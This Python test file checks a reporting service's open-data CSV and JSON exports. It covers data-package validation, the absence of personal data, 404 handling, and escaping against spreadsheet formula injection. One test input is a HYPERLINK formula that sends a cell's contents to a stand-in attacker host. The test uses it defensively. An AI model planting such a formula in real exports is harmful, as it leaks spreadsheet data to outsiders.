"""Open data: CSV and JSON exports, a Frictionless Data Package a validator accepts, no personal data."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import httpx
import pytest
from frictionless import Package
from sqlmodel import Session

from services.reporting.consumer import catch_up
from tests.reporting.conftest import EventScript
from tests.reporting.scripted import build

pytestmark = pytest.mark.anyio

DATASETS = (
    "districts",
    "processes",
    "workshops",
    "inventions",
    "priorities",
    "bodies",
    "body_relations",
    "agreements",
    "course_figures",
    "supervision_figures",
    "lab_figures",
    "cases",
    "case_guidance",
    "method_cards",
    "proposals",
    "answers",
    "attachments",
    "log_checkpoints",
)


async def test_datapackage_validates_against_the_csv_resources(
    session: Session, script: EventScript, reporting_client: httpx.AsyncClient, tmp_path: Path
) -> None:
    build(script)
    catch_up(session)
    descriptor = await reporting_client.get("/opendata/datapackage.json")
    assert descriptor.status_code == 200
    package = descriptor.json()
    assert [r["name"] for r in package["resources"]] == list(DATASETS)
    (tmp_path / "datapackage.json").write_text(json.dumps(package))
    for resource in package["resources"]:
        response = await reporting_client.get(f"/opendata/{resource['path']}")
        assert response.status_code == 200
        assert response.headers["content-type"].startswith("text/csv")
        (tmp_path / resource["path"]).write_bytes(response.content)
    report = Package(str(tmp_path / "datapackage.json")).validate()
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    assert report.stats["tasks"] == len(DATASETS)


async def test_exports_have_the_scripted_rows_and_no_personal_data(
    session: Session, script: EventScript, reporting_client: httpx.AsyncClient
) -> None:
    edition = build(script)
    catch_up(session)
    texts = {d: (await reporting_client.get(f"/opendata/{d}.csv")).text for d in DATASETS}
    rows = {d: list(csv.DictReader(io.StringIO(t))) for d, t in texts.items()}
    assert len(rows["districts"]) == 3 and len(rows["processes"]) == 3 and len(rows["workshops"]) == 5
    assert len(rows["inventions"]) == 3 and len(rows["priorities"]) == 4
    workshops = {r["id"]: r for r in rows["workshops"]}
    assert workshops[edition["wA1"]]["participants"] == "7"  # two people and five anonymous citizens
    assert workshops[edition["wA1"]]["starts_at"] == "2018-11-15T17:00:00Z"
    districts = {r["code"]: r for r in rows["districts"]}
    assert districts["D01"]["population"] == "100000"
    everything = "".join(texts.values())
    for person in ("p1", "p2", "p3", "p4", "p5"):
        assert edition[person] not in everything
    as_json = (await reporting_client.get("/opendata/inventions.json")).json()
    assert sorted(r["title"] for r in as_json) == sorted(r["title"] for r in rows["inventions"])
    assert {r["edition_id"] for r in as_json} == {edition["E1"]}


async def test_open_data_is_anonymous_and_unknown_dataset_is_404(reporting_client: httpx.AsyncClient) -> None:
    response = await reporting_client.get("/opendata/districts.csv")
    assert response.status_code == 200 and response.text.startswith("id,code,name")
    unknown = await reporting_client.get("/opendata/people.csv")
    assert unknown.status_code == 404
    assert unknown.headers["content-type"] == "application/problem+json"
    assert (await reporting_client.get("/opendata/people.json")).status_code == 404


@pytest.mark.parametrize(
    "title",
    ['=HYPERLINK("https://evil.example/?x="&A1,"clicca")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tTab", "\rCR"],
)
async def test_csv_cells_cannot_run_as_spreadsheet_formulas(
    session: Session, script: EventScript, reporting_client: httpx.AsyncClient, title: str
) -> None:
    edition = build(script)
    script.invention(edition["PA"], edition["A"], edition["E1"], title=title, theme="reti_vive")
    catch_up(session)
    text = (await reporting_client.get("/opendata/inventions.csv")).text
    titles = [row["title"] for row in csv.DictReader(io.StringIO(text, newline=""))]
    assert "'" + title in titles
    assert not any(
        cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        for row in csv.reader(io.StringIO(text, newline=""))
        for cell in row
    )
    as_json = (await reporting_client.get("/opendata/inventions.json")).json()
    assert title in [row["title"] for row in as_json]
    package = (await reporting_client.get("/opendata/datapackage.json")).json()
    assert "apostrophe" in package["description"]
